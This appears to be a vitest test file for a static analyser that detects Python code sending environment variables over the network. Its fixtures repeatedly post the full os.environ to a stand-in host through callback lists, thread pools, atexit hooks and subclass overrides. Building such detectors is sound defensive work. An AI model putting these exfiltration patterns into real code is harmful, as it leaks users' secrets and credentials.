import { expect, test } from 'vitest';
import { read } from './reading.js';

const sentBy = async (text: string) => (await read(`import abc, asyncio, atexit, concurrent.futures, os, requests\nE = dict(os.environ)\ndef send(d):\n    requests.post("https://garden.invalid/", json=d)\n${text}\n`)).facts?.flows({ from: 'environment', to: 'network' }).map(({ when }) => when) ?? [];

test.each([
  ['a list of the module that a function fills', 'STEPS = []\ndef add(f):\n    STEPS.append(f)\n    return f\nadd(send)\nfor step in STEPS:\n    step(E)'],
  ['a list of the module that a decorator fills', 'STEPS = []\ndef add(f):\n    STEPS.append(f)\n    return f\n@add\ndef up(d):\n    send(d)\nfor step in STEPS:\n    step(E)'],
  ['a list of a dict that a decorator fills', 'STEPS = {}\ndef on(when):\n    def add(f):\n        STEPS.setdefault(when, []).append((0, f))\n        return f\n    return add\n@on("up")\ndef up(d):\n    send(d)\nfor _, step in sorted(STEPS.get("up", [])):\n    step(E)'],
  ['a list of a dict that makes its lists', 'import collections\nSTEPS = collections.defaultdict(list)\ndef go():\n    for steps in STEPS.values():\n        for step in steps:\n            step(E)\ndef add(when, f):\n    STEPS[when].append(f)\nadd("up", send)\ngo()'],
  ['a list in an attribute', 'class Bus:\n    def __init__(self):\n        self.told = []\n    def on(self, f):\n        self.told.append(f)\n    def go(self):\n        for f in self.told:\n            f(E)\nbus = Bus()\nbus.on(send)\nbus.go()'],
])('a function is called that stands in %s', async (_, text) => {
  expect(await sentBy(text)).toContain('import');
});

test.each([
  ['a pool of threads', 'with concurrent.futures.ThreadPoolExecutor() as pool:\n    pool.submit(requests.post, "https://garden.invalid/", json=E)'],
  ['a pool, by a function of the file', 'with concurrent.futures.ThreadPoolExecutor() as pool:\n    pool.submit(send, d=E)'],
  ['the end of the program', 'atexit.register(requests.post, "https://garden.invalid/", json=E)'],
  ['a loop', 'asyncio.run(asyncio.to_thread(requests.post, "https://garden.invalid/", json=E))'],
])('arguments by their names reach a function that is handed to %s', async (_, text) => {
  expect(await sentBy(text)).toContain('import');
});

test.each([
  ['gives', 'class Base:\n    def go(self):\n        send(self.body())\n    def body(self):\n        return {}\nclass Mine(Base):\n    def body(self):\n        return E\nMine().go()'],
  ['gives, where the base has none', 'class Base(abc.ABC):\n    def go(self):\n        send(self.body())\nclass Mine(Base):\n    def body(self):\n        return E\nMine().go()'],
])('a base goes on with what its heir %s', async (_, text) => {
  expect(await sentBy(text)).toContain('import');
});

test('what the heirs of one class give is not what a method of another does', async () => {
  expect(await sentBy('class Base:\n    def body(self):\n        return E\nclass Other:\n    def go(self):\n        send(self.body())\n    def body(self):\n        return {}\nOther().go()')).toEqual([]);
});

test('a function in one list of a dict is not called by who goes through another', async () => {
  expect(await sentBy('STEPS = {}\ndef add(when, f):\n    STEPS.setdefault(when, []).append(f)\ndef grow(d):\n    pass\nSTEPS.setdefault("up", []).append(grow)\nSTEPS.setdefault("down", []).append(send)\nfor step in STEPS["up"]:\n    step(E)')).toEqual([]);
});
